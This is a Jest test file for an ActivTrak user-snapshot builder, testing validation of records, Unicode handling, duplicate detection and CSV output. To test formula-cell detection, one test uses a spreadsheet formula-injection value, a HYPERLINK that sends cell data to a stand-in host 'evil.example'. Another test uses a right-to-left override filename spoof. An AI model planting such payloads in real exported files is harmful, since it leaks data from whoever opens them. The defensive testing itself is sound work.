import {
	SnapshotBuilder,
	describeProblems,
	fingerprintSnapshot,
	hashUsers,
	HRDC_COLUMN_IDS,
	plainCsvChars,
	reportChanges,
	cellsOf,
	writeSnapshotCsv,
} from '../../nodes/ActivTrakHrdc/snapshot';
import { buildSnapshot, rowCells, snapshotRows } from '../support/snapshots';

describe('buildSnapshot problems name the item and the column', () => {
	test.each<[string, Record<string, unknown>, string, RegExp]>([
		['missing lookup id', { email_address: 'a@x.com' }, 'user_lookup_id', /is empty/],
		['blank lookup id', { user_lookup_id: '   ' }, 'user_lookup_id', /is empty/],
		[
			'object in a text column',
			{ user_lookup_id: { id: 1 } },
			'user_lookup_id',
			/an object is not text/,
		],
		[
			'array in a text column',
			{ user_lookup_id: 'a', employee_id: ['1'] },
			'employee_id',
			/an array is not text/,
		],
		[
			'boolean in a text column',
			{ user_lookup_id: 'a', display_name: true },
			'display_name',
			/boolean true is not text/,
		],
		['NaN', { user_lookup_id: 'a', employee_id: Number.NaN }, 'employee_id', /not a usable number/],
		[
			'a number too small for twenty decimals',
			{ user_lookup_id: 'a', employee_id: 1.5e-25 },
			'employee_id',
			/number 1.5e-25 cannot be written exactly as a decimal/,
		],
		[
			'an integer past 2^53',
			{ user_lookup_id: 'a', employee_id: 2 ** 53 },
			'employee_id',
			/number 9007199254740992 is too large to be exact as a number; map this field as text/,
		],
		[
			'unknown track word',
			{ user_lookup_id: 'a', track: 'maybe' },
			'track',
			/"maybe" is not a track value/,
		],
		[
			'number as track',
			{ user_lookup_id: 'a', track: 0 },
			'track',
			/number 0 is not a track value/,
		],
		[
			'unknown delete word',
			{ user_lookup_id: 'a', delete_user: 'delete' },
			'delete_user',
			/"delete" is not a delete_user value/,
		],
		[
			'object as group',
			{ user_lookup_id: 'a', group: { name: 'Sales' } },
			'group',
			/an object is not a group name/,
		],
		[
			'nested array in groups',
			{ user_lookup_id: 'a', group: ['Sales', ['EMEA']] },
			'group',
			/the list holds an array/,
		],
		[
			'boolean in groups',
			{ user_lookup_id: 'a', group: ['Sales', true] },
			'group',
			/the list holds boolean true/,
		],
		[
			'a line break inside a name',
			{ user_lookup_id: 'a', display_name: 'two\nlines' },
			'display_name',
			/control character U\+000A at position 4/,
		],
		[
			'a NUL in a lookup id',
			{ user_lookup_id: 'a\u0000b' },
			'user_lookup_id',
			/control character U\+0000/,
		],
		[
			'a tab inside a group name',
			{ user_lookup_id: 'a', group: ['Sa\tles'] },
			'group',
			/control character U\+0009/,
		],
		[
			'a C1 control character',
			{ user_lookup_id: 'a', employee_id: 'E\u00851' },
			'employee_id',
			/control character U\+0085/,
		],
		[
			'a lone surrogate',
			{ user_lookup_id: 'a', display_name: 'x\ud800y' },
			'display_name',
			/broken Unicode/,
		],
		[
			'an absurd length',
			{ user_lookup_id: 'a', display_name: 'x'.repeat(257) },
			'display_name',
			/257 characters long; the limit is 256/,
		],
		[
			'an e-mail address that is not one',
			{ user_lookup_id: 'a', email_address: 'ana at x.com' },
			'email_address',
			/"ana at x.com" is not an e-mail address/,
		],
		[
			'an e-mail address without a domain dot',
			{ user_lookup_id: 'a', email_address: 'ana@x' },
			'email_address',
			/not an e-mail address/,
		],
	])('%s', (_name, record, column, message) => {
		const snapshot = buildSnapshot([{ user_lookup_id: 'ok' }, record]);
		expect(snapshot.problems).toHaveLength(1);
		expect(snapshot.problems[0]).toMatchObject({ itemIndex: 1, column });
		expect(snapshot.problems[0].message).toMatch(message);
	});

	test('every problem of every item is reported, not just the first', () => {
		const snapshot = buildSnapshot([
			{ user_lookup_id: '', track: 'x' },
			{ user_lookup_id: 'ok' },
			{ user_lookup_id: 'b', delete_user: 7 },
		]);
		expect(snapshot.problems.map((p) => `${p.itemIndex}:${p.column}`)).toEqual([
			'0:track',
			'0:user_lookup_id',
			'2:delete_user',
		]);
		expect(describeProblems(snapshot.problems)).toContain('Item 2, delete_user: number 7');
	});

	test('two different values for one user are a conflict naming both items', () => {
		const snapshot = buildSnapshot([
			{ user_lookup_id: 'a@x.com', employee_id: 'E1', group: 'Sales' },
			{ user_lookup_id: 'a@x.com', employee_id: 'E2', group: 'EMEA' },
		]);
		expect(snapshot.problems).toEqual([
			{
				itemIndex: 1,
				column: 'employee_id',
				value: 'E2',
				message:
					'is "E2" but item 0 gives "E1" for the same user "a@x.com"; one user needs one value',
			},
		]);
	});

	test('valid text passes: surrogate pairs, right-to-left text, joiners in names, 256 characters', () => {
		const snapshot = buildSnapshot([
			{ user_lookup_id: 'a', display_name: '😀 שלום', email_address: 'a.b+c@sub.x.co' },
			{ user_lookup_id: 'b', display_name: 'y'.repeat(256) },
			// The zero width non-joiner spells Persian names; the joiner makes one emoji of several.
			{ user_lookup_id: 'c', display_name: 'می\u200Cخواهم 👩\u200D💻', group: 'تیم\u200Cفروش' },
		]);
		expect(snapshot.problems).toEqual([]);
	});

	test.each<[string, Record<string, unknown>, string, RegExp]>([
		[
			'a zero width space in a lookup id',
			{ user_lookup_id: 'ana\u200B@x.com' },
			'user_lookup_id',
			/invisible format character U\+200B \(zero width space\) at position 4/,
		],
		[
			'a zero width space in a group',
			{ user_lookup_id: 'a', group: 'Sales\u200B' },
			'group',
			/U\+200B \(zero width space\)/,
		],
		[
			'a right-to-left override in a name',
			{ user_lookup_id: 'a', display_name: 'Ana \u202Egnp.exe' },
			'display_name',
			/U\+202E \(right-to-left override\)/,
		],
		[
			'a joiner in an e-mail address',
			{ user_lookup_id: 'a', email_address: 'a\u200D@x.com' },
			'email_address',
			/U\+200D \(zero width joiner\)/,
		],
		[
			'a byte order mark in an employee id',
			{ user_lookup_id: 'a', employee_id: '4\uFEFF2' },
			'employee_id',
			/U\+FEFF/,
		],
		[
			'a line separator in a name',
			{ user_lookup_id: 'a', display_name: 'Ana\u2028Bo' },
			'display_name',
			/line separator U\+2028 at position 4/,
		],
		[
			'a paragraph separator in a group',
			{ user_lookup_id: 'a', group: 'A\u2029B' },
			'group',
			/paragraph separator U\+2029/,
		],
		[
			'a format character beyond the BMP (a language tag)',
			{ user_lookup_id: 'a\u{E0001}b' },
			'user_lookup_id',
			/U\+E0001/,
		],
	])('%s is refused, naming the item and the column', (_name, record, column, message) => {
		const snapshot = buildSnapshot([{ user_lookup_id: 'ok' }, record]);
		expect(snapshot.problems).toEqual([
			expect.objectContaining({ itemIndex: 1, column, message: expect.stringMatching(message) }),
		]);
	});

	test('ids, groups and names in decomposed Unicode (NFD) are the same as composed (NFC)', () => {
		const composed = 'jos\u00e9@x.com';
		const decomposed = 'jose\u0301@x.com';
		const snapshot = buildSnapshot([
			{ user_lookup_id: composed, group: 'Caf\u00e9', display_name: 'Jos\u00e9' },
			{ user_lookup_id: decomposed, group: 'Cafe\u0301', display_name: 'Jose\u0301' },
		]);
		expect(snapshot.problems).toEqual([]);
		expect(snapshot.summary).toMatchObject({
			users: 1,
			rows: 1,
			groups: 1,
			duplicateRowsCollapsed: 1,
		});
		expect([...snapshotRows(snapshot)]).toEqual([
			rowCells({ user_lookup_id: composed, display_name: 'Jos\u00e9', group: 'Caf\u00e9' }),
		]);
	});

	test('cells that start like a spreadsheet formula are noted, or refused when asked', () => {
		const records = [
			{ user_lookup_id: 'a', display_name: '=HYPERLINK("http://evil.example/?d="&A3,"Click me")' },
			{ user_lookup_id: 'b', group: '@SUM(1+1)', employee_id: -5 },
			{ user_lookup_id: '+c', display_name: 'Ana-Maria', email_address: 'x-y@x.com' },
		];
		const noted = buildSnapshot(records);
		expect(noted.problems).toEqual([]);
		expect(noted.formulaCells).toEqual([
			{ itemIndex: 0, column: 'display_name', start: '=' },
			{ itemIndex: 1, column: 'group', start: '@' },
			{ itemIndex: 2, column: 'user_lookup_id', start: '+' },
		]);
		const refused = buildSnapshot(records, { refuseFormulaCells: true });
		expect(refused.problems.map((p) => [p.itemIndex, p.column])).toEqual([
			[0, 'display_name'],
			[1, 'group'],
			[2, 'user_lookup_id'],
		]);
		expect(refused.problems[0].message).toMatch(
			/starts with "=", so a spreadsheet opening the CSV would run it as a formula/,
		);
	});

	test('a 10 MB value is kept only as a short excerpt', () => {
		const huge = 'x'.repeat(10_000_000);
		const snapshot = buildSnapshot([{ user_lookup_id: 'a', email_address: huge }]);
		expect(snapshot.problems).toHaveLength(1);
		expect(snapshot.problems[0].value).toBe(`${'x'.repeat(77)}...`);
		expect(JSON.stringify(snapshot.problems).length).toBeLessThan(400);
	});

	test('one display name for two different users is noted, naming them, and both users are kept', () => {
		const snapshot = buildSnapshot([
			{ user_lookup_id: 'a@x.com', display_name: 'John Smith' },
			{ user_lookup_id: 'b@x.com', display_name: 'John Smith', group: 'G' },
			{ user_lookup_id: 'c@x.com', display_name: 'john smith' },
			{ user_lookup_id: 'B@x.com', display_name: 'John Smith', group: 'H' },
			{ user_lookup_id: 'd@x.com', display_name: 'Jane Doe' },
		]);
		expect(snapshot.problems).toEqual([]);
		expect(snapshot.summary).toMatchObject({ users: 4, rows: 5 });
		expect(snapshot.sharedDisplayNames).toEqual([
			{ displayName: 'John Smith', users: ['a@x.com', 'b@x.com', 'c@x.com'] },
		]);
	});

	test('one display name for two different users is refused when asked, naming the first', () => {
		const snapshot = buildSnapshot(
			[
				{ user_lookup_id: 'a@x.com', display_name: 'Sam Lee' },
				{ user_lookup_id: 'A@x.com', display_name: 'Sam Lee', group: 'G' },
				{ user_lookup_id: 'b@x.com', display_name: 'sam lee' },
			],
			{ refuseSharedDisplayNames: true },
		);
		expect(snapshot.problems).toEqual([
			{
				itemIndex: 2,
				column: 'display_name',
				value: 'sam lee',
				message:
					'"sam lee" is already the display name of "a@x.com" (item 0); ActivTrak needs display names to be unique',
			},
		]);
		expect(snapshot.rejectedRecords).toEqual([2]);
		expect(snapshot.summary.users).toBe(1);
	});

	test('a record with a problem adds nothing, the others still build', () => {
		const snapshot = buildSnapshot([
			{ user_lookup_id: 'a', group: 'G1' },
			{ user_lookup_id: 'a', group: 'G2', employee_id: 'E9', track: 'maybe' },
			{ user_lookup_id: 'b', group: 'G1' },
		]);
		expect(snapshot.rejectedRecords).toEqual([1]);
		expect([...snapshotRows(snapshot)]).toEqual([
			rowCells({ user_lookup_id: 'a', group: 'G1' }),
			rowCells({ user_lookup_id: 'b', group: 'G1' }),
		]);
	});

	test('CSV rows are named as rows when asked', () => {
		const snapshot = buildSnapshot(
			[
				{ user_lookup_id: 'a', employee_id: '1' },
				{ user_lookup_id: 'a', employee_id: '2' },
			],
			{ recordName: (index) => `row ${index + 2}` },
		);
		expect(snapshot.problems[0].message).toContain('but row 2 gives "1"');
		expect(
			describeProblems(snapshot.problems, { recordName: (index) => `row ${index + 2}` }),
		).toMatch(/^Row 3, employee_id:/);
	});

	test('a long problem list is cut with a count', () => {
		const records = Array.from({ length: 25 }, () => ({ user_lookup_id: '' }));
		const text = describeProblems(buildSnapshot(records).problems);
		expect(text.split('\n')).toHaveLength(21);
		expect(text).toMatch(/and 5 more problems$/);
	});
});

describe('buildSnapshot summary', () => {
	test('counts users, rows, groups, flags and collapsed duplicates', () => {
		const snapshot = buildSnapshot([
			{ user_lookup_id: 'a', group: ['G1', 'G2'], track: 'n' },
			{ user_lookup_id: 'A', group: 'G1' },
			{ user_lookup_id: 'b', group: 'G2', delete_user: 'y' },
			{ user_lookup_id: 'c' },
		]);
		expect(snapshot.summary).toEqual({
			users: 3,
			rows: 4,
			groups: 2,
			usersMarkedDoNotTrack: 1,
			usersMarkedForDeletion: 1,
			duplicateRowsCollapsed: 1,
		});
		expect([...snapshotRows(snapshot)][0]).toHaveLength(HRDC_COLUMN_IDS.length);
	});
});

describe('the CSV size the builder counts as it goes', () => {
	test('is the size of the CSV written, without quotes, for users merged from several records', () => {
		const snapshot = buildSnapshot([
			{ user_lookup_id: 'a@x.com' },
			// The first group fills the user's one row; later ones add rows; a cell filled later
			// is on every row.
			{ user_lookup_id: 'a@x.com', group: 'Sales' },
			{ user_lookup_id: 'A@x.com', group: ['Ops', 'Sales'], display_name: 'Ann' },
			{ user_lookup_id: 'b@x.com', group: ['G1', 'G2'], employee_id: 'E2' },
			{ user_lookup_id: 'b@x.com', email_address: 'b@x.com', track: 'n' },
			{ user_lookup_id: 'c@x.com', group: 'G1' },
		]);
		const csv = writeSnapshotCsv(snapshot).csv.toString('utf8');
		const header = csv.slice(0, csv.indexOf('\n') + 1);
		// No cell here needs quotes: the count is exact.
		expect(snapshot.users.plainCsvChars).toBe(csv.length - header.length);
		const { plainCsvChars: counted, ...users } = snapshot.users;
		expect(counted).toBe(plainCsvChars(users));
	});
});

describe('one user however the lookup id is cased', () => {
	test('beyond ASCII too, in the snapshot and in the change report', () => {
		const first = buildSnapshot([
			{ user_lookup_id: 'ÉLODIE.Ødegård@X.com', group: 'Sales' },
			{ user_lookup_id: 'élodie.ødegård@x.com', group: 'EMEA', employee_id: 'E1' },
		]);
		expect(first.summary).toMatchObject({ users: 1, rows: 2 });
		// The first record's spelling is the one sent.
		expect([...snapshotRows(first)].map((row) => row[0])).toEqual([
			'ÉLODIE.Ødegård@X.com',
			'ÉLODIE.Ødegård@X.com',
		]);
		const previous = fingerprintSnapshot(first, hashUsers(first, null), new Date(0));
		const again = buildSnapshot([
			{ user_lookup_id: 'élodie.ødegård@x.COM', group: ['Sales', 'EMEA'], employee_id: 'E1' },
		]);
		expect(reportChanges(again, previous)).toMatchObject({
			users: { before: 1, after: 1, added: 0, removed: 0 },
			usersWithChangedDetails: [],
		});
	});
});

describe('SnapshotBuilder without a count of records to expect', () => {
	test('grows its lists and still names the record each value came from', () => {
		const builder = new SnapshotBuilder();
		for (let i = 0; i < 5000; i++)
			builder.add(i, { user_lookup_id: `u${i}@x.com`, employee_id: `E${i}`, group: `G${i % 3}` });
		builder.add(5000, {
			user_lookup_id: 'U4321@x.com',
			employee_id: 'other',
			display_name: 'New Name',
		});
		builder.add(5001, { user_lookup_id: 'u17@x.com', display_name: 'new name' });
		const snapshot = builder.build();
		expect(snapshot.summary).toMatchObject({ users: 5000, rows: 5000, groups: 3 });
		expect(snapshot.problems.map((p) => p.message)).toEqual([
			'is "other" but item 4321 gives "E4321" for the same user "u4321@x.com"; one user needs one value',
		]);
		// The display name of record 5000 was not taken (the record was refused), so u17 may have it.
		expect(cellsOf(snapshot.users, 'display_name')[17]).toBe('new name');
		expect([...snapshotRows(snapshot)][4999]).toEqual(
			rowCells({ user_lookup_id: 'u4999@x.com', employee_id: 'E4999', group: 'G1' }),
		);
	});
});

describe('group lists taken from the items', () => {
	test('are used as they are when clean, and never changed when the same user brings more groups', () => {
		const clean = ['Sales', 'EMEA'];
		const messy = [' Sales', 'EMEA', 'EMEA', ''];
		const snapshot = buildSnapshot([
			{ user_lookup_id: 'a@x.com', group: clean },
			{ user_lookup_id: 'b@x.com', group: messy },
			{ user_lookup_id: 'A@x.com', group: ['Berlin'] },
		]);
		expect(snapshot.users.groups).toEqual([
			['Sales', 'EMEA', 'Berlin'],
			['Sales', 'EMEA'],
		]);
		expect(clean).toEqual(['Sales', 'EMEA']);
		expect(messy).toEqual([' Sales', 'EMEA', 'EMEA', '']);
		expect(buildSnapshot([{ user_lookup_id: 'c@x.com', group: clean }]).users.groups[0]).toBe(
			clean,
		);
		expect(
			buildSnapshot([{ user_lookup_id: 'c@x.com', group: ['Sales', 'Sales\u00a0'] }]).users
				.groups[0],
		).toBe('Sales');
	});
});
